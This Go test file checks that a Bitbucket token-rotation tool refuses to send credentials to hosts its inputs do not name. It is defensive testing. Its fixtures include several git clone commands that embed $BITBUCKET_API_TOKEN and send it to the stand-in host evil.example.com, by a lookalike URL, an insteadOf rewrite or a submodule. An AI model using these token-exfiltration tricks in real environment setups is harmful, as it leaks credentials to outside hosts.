package test

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/bitbucketsim"
	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/warpsim"
)

// edited returns an environment of the team into which a colleague has written a clone from
// another server with the secret.
func (w *world) edited(name, secret string, from *bitbucketsim.Repository) string {
	return w.oz.AddEnvironment(team, fmt.Sprintf(`{"name":%q,"setup_commands":["git clone -c \"http.extraHeader=Authorization: Bearer $%s\" %s"],"secrets":[{"name":%q}]}`,
		name, secret, from.CloneURL(), secret))
}

// TestAColleagueDoesNotSayWhoGetsCredentials: a person who may edit an environment may write any
// server into its setup commands. No token, previous token or password is sent there.
func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
	t.Parallel()
	const stranger = "the inputs do not say that credentials may be sent to "
	t.Run("of a token of Cloud", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			w.environments(1)
			uid := w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
			inputs := w.rotation(map[string]string{"previous_token": cloudToken})
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, `environment "edited" (`+uid+`) clones `+w.dc.CloneURL())
				assert.Contains(t, r.log, stranger+w.bitbucket.DataCenterOrigin()+"; name it in trusted_hosts or repo_url")
				assert.Contains(t, r.log, "nothing was written")
			}
			assert.Empty(t, w.toBitbucket(), "before anything is sent")
			w.requireSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
		})
	})
	t.Run("of a token of Data Center, that is made", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			inputs := w.minting(map[string]string{"trusted_hosts": "https://git.example.com"})
			before := len(w.bitbucket.Journal.All())
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, stranger+w.bitbucket.DataCenterOrigin())
			}
			assert.Len(t, w.bitbucket.Journal.All(), before, "before anything is sent")
			w.requireNoneMinted(0)
		})
	})
	t.Run("under the flavor of a server, to Cloud", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			w.must(w.inputs(map[string]string{"smoke_test": "false"}))
			before := len(w.bitbucket.Journal.All())
			inputs := w.inputs(map[string]string{
				"mode": "rotate", "repo_url": "", "flavor": "datacenter", "trusted_hosts": w.bitbucket.DataCenterOrigin(),
				"secret_name": "BITBUCKET_API_TOKEN", "bitbucket_token": dcToken,
			})
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, stranger+"https://bitbucket.org; set flavor: cloud")
			}
			assert.Len(t, w.bitbucket.Journal.All(), before, "before anything is sent")
		})
	})
	t.Run("of a token that is made, under the flavor of a server, to Cloud", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			w.must(w.inputs(map[string]string{"smoke_test": "false"}))
			inputs := w.minting(map[string]string{"secret_name": "BITBUCKET_API_TOKEN", "trusted_hosts": w.bitbucket.DataCenterOrigin() + "\nhttps://bitbucket.org"})
			before := len(w.bitbucket.Journal.All())
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, stranger+"https://bitbucket.org; set flavor: cloud")
			}
			assert.Len(t, w.bitbucket.Journal.All(), before, "before anything is sent")
		})
	})
	t.Run("under the flavor of Cloud, to a server", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			w.environments(1)
			w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
			inputs := w.rotation(map[string]string{"flavor": "cloud", "environment_name": "edited", "trusted_hosts": w.bitbucket.DataCenterOrigin()})
			for range 2 {
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, stranger+w.bitbucket.DataCenterOrigin()+"; set flavor: datacenter")
			}
			assert.Empty(t, w.toBitbucket(), "before anything is sent")
		})
	})
	for what, command := range map[string]string{
		"another kind of server":        "git clone https://x-token-auth:$BITBUCKET_API_TOKEN@evil.example.com/x.git",
		"a URL that begins like Cloud":  "git clone https://x-token-auth:$BITBUCKET_API_TOKEN@evil.example.com/acme/app-0.git?@bitbucket.org/acme/app-0.git",
		"one that takes Cloud's place":  "git clone -c url.https://x:$BITBUCKET_API_TOKEN@evil.example.com/.insteadOf=https://bitbucket.org/ https://bitbucket.org/acme/app-0.git",
		"a submodule of another server": "git -C app-0 submodule add https://x-token-auth:$BITBUCKET_API_TOKEN@evil.example.com/x.git",
	} {
		t.Run("to "+what, func(t *testing.T) {
			inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
				repository := w.environments(1)[0]
				uid := w.oz.AddEnvironment(team, fmt.Sprintf(`{"name":"edited","setup_commands":[%q],"secrets":[{"name":"BITBUCKET_API_TOKEN"}]}`, command))
				inputs := w.rotation(nil)
				for range 2 {
					r := w.run(inputs)
					assert.Equal(t, 1, r.code)
					assert.Contains(t, r.log, `environment "edited" (`+uid+`) clones from https://evil.example.com with secret "BITBUCKET_API_TOKEN"`)
					assert.Contains(t, r.log, stranger+"https://evil.example.com; name it in trusted_hosts or repo_url")
				}
				assert.Empty(t, w.toBitbucket(), "before anything is sent")
				inputs["mode"], inputs["repo_url"], inputs["smoke_test"] = "apply", repository.CloneURL(), "false"
				r := w.run(inputs)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.log, stranger+"https://evil.example.com")
				w.requireSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
				inputs["on_shared_secret"] = "warn"
				assert.Contains(t, w.must(inputs).log, `environment "edited" (`+uid+`) clones from https://evil.example.com`)
			})
		})
	}
	t.Run("of an environment that the rotation is not about", func(t *testing.T) {
		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
			repository := w.environments(1)[0]
			w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
			inputs := w.rotation(map[string]string{"repo_url": repository.CloneURL()})
			for range 2 {
				r := w.must(inputs)
				assert.Contains(t, r.log, `"edited"`, "it gets the new value, and is named")
			}
			for _, request := range w.bitbucket.Journal.All() {
				assert.NotContains(t, request.URL, w.bitbucket.DataCenterOrigin())
			}
		})
	})
}

// TestATrustedHostGetsCredentials: in a job without repo_url.
func TestATrustedHostGetsCredentials(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		inputs := w.inputs(map[string]string{"repo_url": w.dc.CloneURL(), "bitbucket_token": dcToken, "smoke_test": "false"})
		w.must(inputs)
		next := w.bitbucket.AddAccessToken("projects/PRJ", "by hand", "REPO_READ", 50)
		inputs["mode"], inputs["bitbucket_token"], inputs["trusted_hosts"] = "rotate", next.Value, w.bitbucket.DataCenterOrigin()
		delete(inputs, "repo_url")
		for range 2 {
			w.must(inputs)
			require.Len(t, w.oz.Secrets(), 1)
			assert.True(t, w.oz.Secrets()[0].Value == next.Value)
		}
		delete(inputs, "trusted_hosts")
		before := len(w.oz.Journal.All())
		r := w.run(inputs, "rotate")
		assert.Equal(t, 2, r.code)
		assert.Contains(t, r.log, "trusted_hosts: is missing")
		assert.Len(t, w.oz.Journal.All(), before)
	})
}
